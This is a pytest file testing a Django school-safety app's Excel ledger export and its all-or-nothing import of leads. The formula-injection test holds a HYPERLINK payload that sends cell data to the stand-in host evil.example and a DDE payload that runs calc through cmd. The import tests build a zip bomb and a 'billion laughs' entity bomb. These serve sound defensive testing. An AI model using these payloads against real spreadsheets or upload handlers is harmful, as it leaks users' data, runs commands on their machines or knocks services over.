"""The ledger's Excel export and the all-or-nothing import of leads collected offline."""

from __future__ import annotations

import io
import zipfile
from datetime import datetime, timedelta
from decimal import Decimal
from urllib.parse import quote

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from PIL import Image

from conftest import login
from safecampus.accounts.services import api_token_create
from safecampus.audit.models import AuditEvent
from safecampus.cases.models import CaseEvent, Deadline
from safecampus.leads import excel
from safecampus.leads.choices import DualReportChannel, LeadResult, LeadSource, LeadStatus
from safecampus.leads.errors import LeadError
from safecampus.leads.excel import reader
from safecampus.leads.models import DualReport, Lead, LeadCategory
from safecampus.leads.services import (
    lead_accept,
    lead_assign_school,
    lead_conclude,
    lead_dual_report_add,
    lead_mark_spam,
    lead_start_handling,
    lead_transfer,
)
from safecampus.leads.services.imports import lead_import
from safecampus.leads.tests.conftest import REPORTER_CONTACT, REPORTER_NAME, TUESDAY_MORNING

pytestmark = pytest.mark.django_db

HEADERS_ZH = [
    "序号",
    "线索编号",
    "接报时间",
    "来源",
    "类别",
    "子类",
    "涉及学校",
    "地点",
    "简要情况",
    "紧急程度",
    "状态",
    "承办/移交单位",
    "双报告情况",
    "反馈/办结时间",
    "处置结果",
    "是否超期",
]
COLUMN = {name: index for index, name in enumerate(HEADERS_ZH)}
FIRST_ROW = excel.LEDGER_HEADER_ROW + 1


@pytest.fixture(autouse=True)
def tuesday():
    with time_machine.travel(TUESDAY_MORNING, tick=False):
        yield


def _book(response):
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == excel.XLSX_MIME
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def _rows(book):
    sheet = book.worksheets[0]
    return [list(r) for r in sheet.iter_rows(min_row=FIRST_ROW, values_only=True)]


def _references(response):
    return [row[COLUMN["线索编号"]] for row in _rows(_book(response))]


# --- export -----------------------------------------------------------------------------


def test_export_is_the_ledger_a_bureau_files(client, district, safety_officer, report_lead):
    handled = report_lead(urgency="urgent")
    lead_accept(actor=safety_officer, lead=handled)
    lead_assign_school(actor=safety_officer, lead=handled, school=district.school_a)
    lead_start_handling(actor=safety_officer, lead=handled)
    lead_conclude(actor=safety_officer, lead=handled, result=LeadResult.VERIFIED)
    lead_dual_report_add(
        actor=safety_officer,
        lead=handled,
        channel=DualReportChannel.LOCAL_GOVERNMENT,
        reported_to="新北区人民政府办公室",
        method="document",
    )
    transferred = report_lead(
        category=LeadCategory.objects.get(code="campus_loans_routine"), school=None, place=""
    )
    lead_accept(actor=safety_officer, lead=transferred)
    lead_transfer(actor=safety_officer, lead=transferred, to_units=[district.police_station])
    login(client, safety_officer)

    response = client.get("/leads/export/")

    assert response["Content-Disposition"] == (
        "attachment; filename*=UTF-8''" + quote("线索台账-2026-03-10.xlsx", safe="")
    )
    assert response["Cache-Control"] == "private, no-store"
    book = _book(response)
    sheet = book.worksheets[0]
    assert sheet.title == "台账"
    assert sheet["A1"].value == "常州市新北区教育局涉校线索台账"
    assert sheet["A2"].value.startswith(
        "导出时间：2026-03-10 09:30（北京时间）　筛选条件：无　共 2 条"
    )
    assert [c.value for c in sheet[excel.LEDGER_HEADER_ROW]] == HEADERS_ZH
    assert sheet.freeze_panes == f"C{FIRST_ROW}"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert sheet.column_dimensions["I"].width == 50
    newest, oldest = _rows(book)
    assert newest == [
        1,
        transferred.reference,
        datetime(2026, 3, 10, 9, 30),
        "内部报告",
        "校园贷、套路贷",
        "套路贷",
        None,
        None,
        "校门口有社会人员向学生索要钱财",
        "一般",
        "已移交",
        "三井派出所",
        "否",
        None,
        None,
        "否",
    ]
    assert oldest[:4] == [2, handled.reference, datetime(2026, 3, 10, 9, 30), "内部报告"]
    assert oldest[4:7] == ["干扰教育教学秩序、敲诈勒索、寻衅滋事", None, "新北区实验小学"]
    assert oldest[9:] == [
        "紧急",
        "已办结",
        "新北区实验小学",
        "是：属地政府 新北区人民政府办公室",
        "办结 2026-03-10 09:30",
        "查证属实",
        "否",
    ]
    assert sheet.cell(row=FIRST_ROW, column=9).alignment.wrap_text is True
    exported = AuditEvent.objects.get(action="leads.lead.exported")
    assert exported.actor_id == safety_officer.pk and exported.changes == {
        "filters": {},
        "rows": 2,
    }


def test_export_takes_the_ledger_filters_and_marks_overdue(
    client, district, safety_officer, report_lead
):
    at_a, at_b = report_lead(), report_lead(school=district.school_b)
    login(client, safety_officer)
    assert _references(client.get("/leads/export/", {"school": "XB-002"})) == [at_b.reference]
    only_a = client.get("/leads/export/", {"school": "XB-001", "status": "received"})
    subtitle = load_workbook(io.BytesIO(b"".join(only_a.streaming_content))).worksheets[0]["A2"]
    assert "状态：已接收；学校：新北区实验小学" in subtitle.value
    # Their acknowledgement time limits have passed (moved back, not the clock: the session
    # store may live in Redis, whose expiry follows the real clock).
    Deadline.objects.open().update(due_at=timezone.now() - timedelta(hours=1))
    overdue = client.get("/leads/export/", {"overdue": "on"})
    rows = _rows(_book(overdue))
    assert [r[COLUMN["线索编号"]] for r in rows] == [at_b.reference, at_a.reference]
    assert {r[COLUMN["是否超期"]] for r in rows} == {"是"}


def test_spam_and_merged_leads_stay_out_unless_asked_for(client, safety_officer, report_lead):
    kept, spam, merged = report_lead(), report_lead(), report_lead()
    lead_mark_spam(actor=safety_officer, lead=spam)
    Lead.objects.filter(pk=merged.pk).update(status=LeadStatus.MERGED, merged_into=kept)
    login(client, safety_officer)
    assert _references(client.get("/leads/export/")) == [kept.reference]
    asked = client.get("/leads/export/", {"status": "merged"})
    assert _references(asked) == [merged.reference]


@pytest.mark.parametrize(
    "person,sees",
    [
        ("safety_officer", {"a", "b", "transferred"}),
        ("officer_a", {"a"}),
        ("teacher_a", {"a"}),
        ("officer_b", set()),
        ("police_liaison", {"transferred"}),
    ],
)
def test_export_keeps_the_ledger_scope(
    client, request, district, safety_officer, report_lead, person, sees
):
    leads = {"a": report_lead(), "b": report_lead(), "transferred": report_lead()}
    lead_accept(actor=safety_officer, lead=leads["a"])
    lead_assign_school(actor=safety_officer, lead=leads["a"], school=district.school_a)
    lead_accept(actor=safety_officer, lead=leads["transferred"])
    lead_transfer(
        actor=safety_officer, lead=leads["transferred"], to_units=[district.police_station]
    )
    login(client, request.getfixturevalue(person))
    listed = {row.reference for row in client.get("/leads/").context["page"]}
    exported = set(_references(client.get("/leads/export/")))
    assert exported == listed == {leads[k].reference for k in sees}


def test_the_auditor_is_refused_like_on_the_ledger(client, auditor, lead):
    login(client, auditor)
    assert client.get("/leads/").status_code == 403
    assert client.get("/leads/export/").status_code == 403
    assert client.get("/api/v1/leads/export/").status_code == 403
    assert not AuditEvent.objects.filter(action="leads.lead.exported").exists()


def test_no_cell_holds_the_reporter(client, safety_officer, report_lead):
    report_lead()
    report_lead(is_anonymous=False, reporter_name=REPORTER_NAME + "乙")
    login(client, safety_officer)
    book = _book(client.get("/leads/export/"))
    cells = [str(v) for row in book.worksheets[0].iter_rows(values_only=True) for v in row if v]
    assert cells
    assert not [c for c in cells if REPORTER_NAME in c or REPORTER_CONTACT in c]


def test_text_that_looks_like_a_formula_stays_text(client, safety_officer, report_lead):
    dangerous = {
        "description": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
        "place": "+1+cmd|' /C calc'!A0",
        "persons_involved": "-2+3",
    }
    report_lead(**dangerous)
    tabbed = report_lead(description="@SUM(1,2)")
    Lead.objects.filter(pk=tabbed.pk).update(place="\t=1+1")  # the report form strips it
    report_lead(description="正常描述\x07带控制字符", place="-")
    login(client, safety_officer)
    sheet = _book(client.get("/leads/export/")).worksheets[0]
    summary, place = COLUMN["简要情况"] + 1, COLUMN["地点"] + 1
    cells = [
        sheet.cell(row=row, column=column)
        for row in range(FIRST_ROW, FIRST_ROW + 3)
        for column in (summary, place)
    ]
    assert [c.value for c in cells] == [
        "正常描述带控制字符",
        "-",
        "@SUM(1,2)",
        "\t=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
        "+1+cmd|' /C calc'!A0",
    ]
    assert {c.data_type for c in cells} == {"s"}
    assert [c.quotePrefix for c in cells] == [False, True, True, True, True, True]


def test_export_queries_do_not_grow_with_the_leads(client, district, safety_officer, report_lead):
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get("/leads/export/").status_code == 200
        return len(captured)

    def add() -> None:
        lead = report_lead()
        lead_accept(actor=safety_officer, lead=lead)
        lead_transfer(actor=safety_officer, lead=lead, to_units=[district.police_station])

    login(client, safety_officer)
    add()
    queries()  # content types are looked up once per process
    few = queries()
    for _ in range(4):
        add()
    assert queries() == few


def test_export_in_english_has_english_headers(client, safety_officer, lead):
    login(client, safety_officer)
    client.cookies["django_language"] = "en"
    response = client.get("/leads/export/")
    assert "Leads%20ledger-2026-03-10.xlsx" in response["Content-Disposition"]
    sheet = _book(response).worksheets[0]
    headers = [c.value for c in sheet[excel.LEDGER_HEADER_ROW]]
    assert headers[:3] == ["No.", "Reference", "Received at"]
    assert headers[-1] == "Overdue"
    assert sheet["A1"].value == "Ledger of leads concerning schools — 常州市新北区教育局"


def test_api_export_takes_filters_as_query_parameters(
    client, district, safety_officer, report_lead
):
    report_lead()
    at_b = report_lead(school=district.school_b)
    token = api_token_create(actor=None, user=safety_officer, name="test")
    headers = {"HTTP_AUTHORIZATION": f"Token {token}"}
    response = client.get("/api/v1/leads/export/", {"school": "XB-002"}, **headers)
    assert _references(response) == [at_b.reference]
    accepting_xlsx = client.get("/api/v1/leads/export/", HTTP_ACCEPT=excel.XLSX_MIME, **headers)
    assert accepting_xlsx.status_code == 200
    bad = client.get("/api/v1/leads/export/", {"status": "nonsense"}, **headers)
    assert bad.status_code == 400 and set(bad.json()) == {"detail", "errors"}
    assert "status" in bad.json()["errors"]


# --- the template -----------------------------------------------------------------------


def _validation_values(book, sheet, column_letter):
    (validation,) = [
        v for v in sheet.data_validations.dataValidation if str(v.sqref).startswith(column_letter)
    ]
    assert validation.type == "list"
    target, cells = validation.formula1.split("!")
    lists = book[target.strip("'")]
    start, end = cells.replace("$", "").split(":")
    return [c.value for (c,) in lists[start:end]]


def test_template_lists_the_categories_schools_and_urgencies(client, district, safety_officer):
    login(client, safety_officer)
    response = client.get("/leads/import/template/")
    assert response["Content-Disposition"] == (
        "attachment; filename*=UTF-8''" + quote("线索导入模板.xlsx", safe="")
    )
    book = _book(response)
    assert book.sheetnames == ["线索录入", "代码表", "填写说明"]
    sheet = book["线索录入"]
    assert [c.value for c in sheet[1]] == [
        "类别*",
        "子类",
        "发生时间",
        "涉及学校",
        "地点",
        "情况描述*",
        "涉及人员",
        "受害人",
        "紧急程度",
        "经度",
        "纬度",
    ]
    assert sheet.max_row == 1 and sheet.freeze_panes == "A2"
    top = list(LeadCategory.objects.filter(parent=None).values_list("name", flat=True))
    assert _validation_values(book, sheet, "A") == top
    assert "套路贷" in _validation_values(book, sheet, "B")
    assert _validation_values(book, sheet, "D") == ["新北区实验小学", "新北区河海中学"]
    assert _validation_values(book, sheet, "I") == ["一般", "紧急", "特急"]
    assert sheet.column_dimensions["F"].number_format == "@"  # "=…" typed in stays text
    rows = list(book["填写说明"].iter_rows(values_only=True))
    (header,) = [i for i, r in enumerate(rows) if r[0] == "类别*"]
    assert rows[header + 1][:4] == (top[0], "干扰教育教学秩序", "2026-03-10 16:30", "XB-001")


# --- import -----------------------------------------------------------------------------

GOOD = [
    {
        "类别*": "干扰教育教学秩序、敲诈勒索、寻衅滋事",
        "子类": "gang_disruption_extortion",
        "发生时间": datetime(2026, 3, 9, 16, 30),
        "涉及学校": "XB-001",
        "地点": "东门外小卖部",
        "情况描述*": "放学后有社会青年在东门外向学生索要钱财",
        "涉及人员": "社会青年二人",
        "受害人": "五年级学生",
        "紧急程度": "紧急",
        "经度": 119.974,
        "纬度": "31.811",
    },
    {
        "类别*": "bullying_violence",
        "发生时间": "2026/3/8",
        "涉及学校": "新北区河海中学",
        "情况描述*": "=初二学生在厕所被高年级学生围殴",
    },
]


def _workbook(rows, *, headers=None, blank_rows=()):
    book = Workbook()
    sheet = book.active
    sheet.title = "线索录入"
    headers = headers or [
        "类别*",
        "子类",
        "发生时间",
        "涉及学校",
        "地点",
        "情况描述*",
        "涉及人员",
        "受害人",
        "紧急程度",
        "经度",
        "纬度",
    ]
    sheet.append(headers)
    for index, row in enumerate(rows):
        if index in blank_rows:
            sheet.append([])
        sheet.append([row.get(h) for h in headers])
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                cell.data_type = "s"  # typed into a text column, as the template formats it
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _upload(content, name="线索.xlsx"):
    return SimpleUploadedFile(name, content, content_type=excel.XLSX_MIME)


def _counts():
    return (
        Lead.objects.count(),
        CaseEvent.objects.count(),
        DualReport.objects.count(),
        Deadline.objects.count(),
        AuditEvent.objects.count(),
    )


def test_import_creates_every_lead_as_if_reported_here(client, district, safety_officer):
    login(client, safety_officer)
    response = client.post("/leads/import/", {"file": _upload(_workbook(GOOD))}, follow=True)
    assert response.redirect_chain == [("/leads/", 302)]
    assert "已导入 2 条线索。" in response.content.decode()
    first, second = Lead.objects.order_by("id")
    assert {first.source, second.source} == {LeadSource.IMPORT}
    assert first.reference == f"XS-2026-{first.pk:06d}"
    assert (first.category.code, first.school, first.urgency) == (
        "gang_disruption_extortion",
        district.school_a,
        "urgent",
    )
    assert first.occurred_at == datetime(2026, 3, 9, 16, 30, tzinfo=TUESDAY_MORNING.tzinfo)
    assert (first.latitude, first.longitude) == (Decimal("31.811000"), Decimal("119.974000"))
    assert (first.place, first.persons_involved, first.victims) == (
        "东门外小卖部",
        "社会青年二人",
        "五年级学生",
    )
    assert (second.category.code, second.school, second.urgency) == (
        "bullying_violence",
        district.school_b,
        "normal",
    )
    assert second.description == "=初二学生在厕所被高年级学生围殴"
    assert (first.reporter_name, first.reporter_contact, first.unit) == (
        "",
        "",
        district.safety_section,
    )
    for lead in (first, second):
        assert lead.status == LeadStatus.RECEIVED
        assert list(lead.dual_reports.values_list("channel", flat=True)) == ["safety_section"]
        acknowledge = Deadline.objects.for_case(lead).open().get()
        assert (acknowledge.purpose, acknowledge.started_at) == ("acknowledge", lead.created_at)
        assert CaseEvent.objects.for_case(lead).filter(kind="created").count() == 1
    summary = AuditEvent.objects.get(action="leads.lead.imported")
    assert summary.changes == {"count": 2, "references": [first.reference, second.reference]}
    assert AuditEvent.objects.filter(action="leads.lead.reported").count() == 2


def test_import_is_all_or_nothing_and_names_every_bad_row(client, district, safety_officer):
    bad = [
        GOOD[0],
        {"类别*": "gang_disruption", "情况描述*": ""},
        {"类别*": "无此类别", "情况描述*": "某事", "涉及学校": "XB-999"},
        {"类别*": "campus_loans", "子类": "校园欺凌", "情况描述*": "某事"},
        {"类别*": "other", "情况描述*": "某事", "发生时间": "2026-03-11 08:00"},
        {"类别*": "other", "情况描述*": "某事", "发生时间": "上周五"},
        {"类别*": "other", "情况描述*": "某事", "纬度": 91, "经度": 119.9},
        {"类别*": "other", "情况描述*": "某事", "经度": 119.9},
        {"类别*": "other", "情况描述*": "某事", "地点": "很" * 201, "紧急程度": "十万火急"},
    ]
    login(client, safety_officer)
    before = _counts()
    response = client.post("/leads/import/", {"file": _upload(_workbook(bad, blank_rows={2}))})
    assert response.status_code == 400
    errors = [(e.row, e.column, e.message) for e in response.context["row_errors"]]
    assert errors == [
        (3, "情况描述", "请填写事件经过。"),
        (5, "类别", "未知的类别。"),
        (5, "涉及学校", "未知的学校，或不在您的范围内的学校。"),
        (6, "子类", "该子类不属于所填类别。"),
        (7, "发生时间", "该时间在将来。"),
        (8, "发生时间", "不是日期时间，请写成 2026-03-10 16:30 的形式。"),
        (9, "纬度", "纬度须是 -90 到 90 之间的数。"),
        (10, "纬度", "经度和纬度要么都填，要么都不填。"),
        (11, "地点", "过长：最多 200 个字符。"),
        (11, "紧急程度", "未知的紧急程度，请从列表中选择。"),
    ]
    html = response.content.decode()
    assert (
        "工作簿有 10 处错误，未导入任何线索。" in html
        and "<td>过长：最多 200 个字符。</td>" in html
    )
    assert _counts() == before


def test_a_refusal_by_the_report_service_rolls_back_every_lead(district, safety_officer, extortion):
    retired = LeadCategory.objects.create(code="retired", name="停用类别", is_active=False)
    rows = [
        {"row": 2, "category": extortion, "description": "第一条"},
        {"row": 3, "category": retired, "description": "第二条"},
    ]
    before = _counts()
    with pytest.raises(LeadError) as refused:
        lead_import(actor=safety_officer, rows=rows)
    assert str(refused.value.message) == "第 3 行：请选择在用的类别。"
    assert _counts() == before


def _png_bytes():
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(out, format="PNG")
    return out.getvalue()


def _zip(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


SPREADSHEET_TYPES = (
    '<Types><Override PartName="/xl/workbook.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)


def _bomb():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", SPREADSHEET_TYPES)
        with archive.open("xl/worksheets/sheet1.xml", "w") as member:
            for _ in range(excel.MAX_UNPACKED_BYTES // (1 << 20) + 1):
                member.write(b"\0" * (1 << 20))
    return out.getvalue()


def _entity_bomb():
    """A workbook whose sheet expands one entity into a billion (the "billion laughs")."""
    entities = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 10)).replace(
        "&e0;", "lol"
    )
    sheet = (
        f'<?xml version="1.0"?><!DOCTYPE d [{entities}]><worksheet xmlns="http://schemas.'
        'openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" '
        't="inlineStr"><is><t>&e9;</t></is></c></row></sheetData></worksheet>'
    )
    source = zipfile.ZipFile(io.BytesIO(_workbook([])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for info in source.infolist():
            is_sheet = info.filename == "xl/worksheets/sheet1.xml"
            archive.writestr(info.filename, sheet if is_sheet else source.read(info))
    return out.getvalue()


@pytest.mark.parametrize(
    "make,message",
    [
        (_png_bytes, "这不是 Excel 工作簿（.xlsx）。请下载模板填写后上传。"),
        (lambda: b"\x00\x01garbage" * 100, "这不是 Excel 工作簿（.xlsx）。请下载模板填写后上传。"),
        (lambda: _zip({"a.txt": "x"}), "这不是 Excel 工作簿（.xlsx）。请下载模板填写后上传。"),
        (
            lambda: _zip({"[Content_Types].xml": SPREADSHEET_TYPES, "xl/workbook.xml": "<"}),
            "工作簿已损坏，无法读取。",
        ),
        (_bomb, "工作簿解压后过大。"),
        (_entity_bomb, "工作簿已损坏，无法读取。"),
        (lambda: _workbook([]), "工作簿中没有线索。"),
        (lambda: b"", "提交的是空文件。"),
    ],
    ids=["png", "garbage", "zip", "damaged", "zip-bomb", "entity-bomb", "header-only", "empty"],
)
def test_a_file_that_is_no_filled_in_template_is_a_400(client, safety_officer, make, message):
    login(client, safety_officer)
    before = _counts()
    response = client.post("/leads/import/", {"file": _upload(make())})
    assert response.status_code == 400
    assert message in response.content.decode()
    assert _counts() == before


def test_missing_columns_are_named_on_row_one(client, safety_officer):
    login(client, safety_officer)
    content = _workbook([GOOD[0]], headers=["类别", "情况描述", "地点"])
    response = client.post("/leads/import/", {"file": _upload(content)})
    assert response.status_code == 400
    missing = [(e.row, e.column) for e in response.context["row_errors"]]
    assert missing == [
        (1, c) for c in ("子类", "发生时间", "涉及学校", "涉及人员", "受害人", "紧急程度")
    ]


def test_oversized_files_and_too_many_rows_are_refused(client, safety_officer, monkeypatch):
    login(client, safety_officer)
    too_big = b"PK\x03\x04" + b"\x00" * excel.MAX_IMPORT_BYTES
    response = client.post("/leads/import/", {"file": _upload(too_big)})
    assert response.status_code == 400 and "文件大于 5.0\xa0MB。" in response.content.decode()
    monkeypatch.setattr(reader, "MAX_IMPORT_ROWS", 1)
    response = client.post("/leads/import/", {"file": _upload(_workbook(GOOD))})
    assert response.status_code == 400
    assert "工作簿中的线索超过 1 条，请分成几个文件。" in response.content.decode()
    assert Lead.objects.count() == 0


def test_headers_in_english_are_read_too(client, district, safety_officer):
    login(client, safety_officer)
    client.cookies["django_language"] = "en"
    template = _book(client.get("/leads/import/template/"))
    sheet = template["Leads"]
    headers = [c.value for c in sheet[1]]
    assert headers[0] == "Category*" and headers[5] == "What happened*"
    sheet.append(
        ["other", None, None, "XB-001", None, "Someone waits at the gate", None, None, "Urgent"]
    )
    out = io.BytesIO()
    template.save(out)
    response = client.post("/leads/import/", {"file": _upload(out.getvalue())})
    assert response.status_code == 302
    assert Lead.objects.get().urgency == "urgent"


@pytest.mark.parametrize("person", ["officer_a", "principal_a", "police_liaison", "auditor"])
def test_only_the_bureau_triage_roles_import(client, request, person):
    login(client, request.getfixturevalue(person))
    before = _counts()
    assert client.get("/leads/import/").status_code == 403
    assert client.get("/leads/import/template/").status_code == 403
    assert client.post("/leads/import/", {"file": _upload(_workbook(GOOD))}).status_code == 403
    api = client.post("/api/v1/leads/import/", {"file": _upload(_workbook(GOOD))})
    assert api.status_code == 403
    assert _counts()[:4] == before[:4]


def test_import_button_only_for_those_who_may_import(client, safety_officer, officer_a):
    login(client, safety_officer)
    page = client.get("/leads/", {"school": "XB-001"}).content.decode()
    assert 'href="/leads/export/?school=XB-001"' in page and 'href="/leads/import/"' in page
    login(client, officer_a)
    page = client.get("/leads/").content.decode()
    assert 'href="/leads/export/"' in page and 'href="/leads/import/"' not in page


def test_import_page_explains_the_template(client, safety_officer):
    login(client, safety_officer)
    page = client.get("/leads/import/")
    assert page.status_code == 200
    html = page.content.decode()
    assert 'href="/leads/import/template/"' in html and "最多 500 条线索" in html


def test_api_import_answers_201_or_400_with_row_errors(client, district, safety_officer):
    token = api_token_create(actor=None, user=safety_officer, name="test")
    headers = {"HTTP_AUTHORIZATION": f"Token {token}"}
    created = client.post("/api/v1/leads/import/", {"file": _upload(_workbook(GOOD))}, **headers)
    assert created.status_code == 201
    body = created.json()
    assert body["created"] == 2
    assert body["references"] == list(
        Lead.objects.order_by("id").values_list("reference", flat=True)
    )
    before = _counts()
    bad = [GOOD[1], {"类别*": "other", "情况描述*": ""}]
    refused = client.post("/api/v1/leads/import/", {"file": _upload(_workbook(bad))}, **headers)
    assert refused.status_code == 400
    assert refused.json() == {
        "detail": "工作簿有 1 处错误，未导入任何线索。请改正后重新上传。",
        "code": "rows_invalid",
        "errors": [{"row": 3, "column": "情况描述", "message": "请填写事件经过。"}],
    }
    not_xlsx = client.post("/api/v1/leads/import/", {"file": _upload(_png_bytes())}, **headers)
    assert not_xlsx.status_code == 400 and not_xlsx.json()["code"] == "not_xlsx"
    no_file = client.post("/api/v1/leads/import/", {}, **headers)
    assert no_file.status_code == 400 and no_file.json()["errors"] == []
    assert _counts() == before


def test_schema_lists_export_and_import(client, teacher_a):
    login(client, teacher_a)
    paths = client.get("/api/v1/schema/").json()["paths"]
    export = paths["/api/v1/leads/export/"]["get"]
    assert excel.XLSX_MIME in export["responses"]["200"]["content"]
    assert {p["name"] for p in export["parameters"]} >= {"category", "school", "status", "overdue"}
    imported = paths["/api/v1/leads/import/"]["post"]
    assert imported["x-access"] == {
        "kind": "roles",
        "roles": ["bureau_leader", "bureau_safety_officer"],
    }
    assert "multipart/form-data" in imported["requestBody"]["content"]
